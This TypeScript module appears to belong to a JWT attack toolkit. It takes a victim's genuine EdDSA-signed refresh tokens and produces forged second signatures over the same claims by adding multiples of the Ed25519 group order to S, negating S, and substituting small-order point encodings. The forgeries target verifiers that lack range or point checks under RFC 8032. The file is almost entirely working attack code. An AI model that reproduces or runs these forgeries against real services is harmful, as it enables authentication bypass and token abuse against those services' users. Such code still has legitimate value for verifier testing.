// Second signatures over genuine claims, which a verifier accepts that does not check the range of S or accepts any point
// (RFC 8032 §5.1.7, RFC 8725 §3.2).
import type { Victim } from './victim.ts';
import type { Forged } from './forged.ts';

/** The order L of the group (RFC 8032 §5.1). Without a check of the range, S + L is valid where S is. */
const groupOrder = 2n ** 252n + 27742317777372353535851937790883648493n;

/** Encodings of points of small order: for some key and some message each is a signature. */
const smallOrder = [
  '0100000000000000000000000000000000000000000000000000000000000000',
  'ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f',
  '0000000000000000000000000000000000000000000000000000000000000080',
  '0000000000000000000000000000000000000000000000000000000000000000',
  'c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a',
  'c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac03fa',
  '26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05',
  '26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc85',
  'eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f',
] as const;

export function secondSignatures({ refreshToken, siblings, keys }: Victim): Forged[] {
  if (keys.refresh.algorithm !== 'EdDSA') return [];
  return [refreshToken, ...siblings].flatMap((genuine) => {
    const end = genuine.lastIndexOf('.') + 1;
    const bytes = Buffer.from(genuine.slice(end), 'base64url');
    const [point, scalar] = [bytes.subarray(0, 32), littleEndian(bytes.subarray(32))];
    const moved = Array.from({ length: 15 }, (_, times) =>
      Buffer.concat([point, bytesOf(scalar + BigInt(times + 1) * groupOrder)]),
    );
    const negated = Buffer.concat([point, bytesOf(groupOrder - scalar)]);
    const small = smallOrder.flatMap((text) =>
      [0n, 1n, groupOrder, groupOrder - 1n, scalar].map((one) =>
        Buffer.concat([Buffer.from(text, 'hex'), bytesOf(one)]),
      ),
    );
    return [...moved, negated, ...small].map((one) => ({
      what: 'a second signature of the same claims',
      token: genuine.slice(0, end) + one.toString('base64url'),
    }));
  });
}

function littleEndian(bytes: Buffer): bigint {
  return BigInt(`0x${Buffer.from(bytes).reverse().toString('hex')}`);
}

function bytesOf(scalar: bigint): Buffer {
  return Buffer.from(BigInt.asUintN(256, scalar).toString(16).padStart(64, '0'), 'hex').reverse();
}
